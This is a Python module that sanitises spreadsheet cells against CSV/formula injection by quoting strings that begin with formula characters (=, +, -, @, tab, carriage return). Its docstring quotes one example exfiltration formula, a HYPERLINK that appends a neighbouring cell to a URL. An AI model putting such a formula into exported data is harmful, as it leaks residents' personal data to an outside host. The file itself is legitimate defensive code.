"""Cells for the spreadsheets we hand out (register.xlsx, stats.xlsx, stats.csv): text a resident or an admin typed
must stay text when Excel, WPS or LibreOffice opens the file, never a formula (CSV/formula injection: a name
``=HYPERLINK("http://…"&C4,"x")`` would send the row's neighbours away when clicked)."""

from __future__ import annotations

from typing import Any

#: what makes a spreadsheet read a cell as a formula or a DDE command (OWASP's list)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def text(value: Any) -> Any:
    """A str starting like a formula gets a leading ``'`` (OWASP's advice): it shows as typed, quote first, and
    stays text even when retyped. Numbers and None stay as they are: they are ours, not typed by anyone."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value
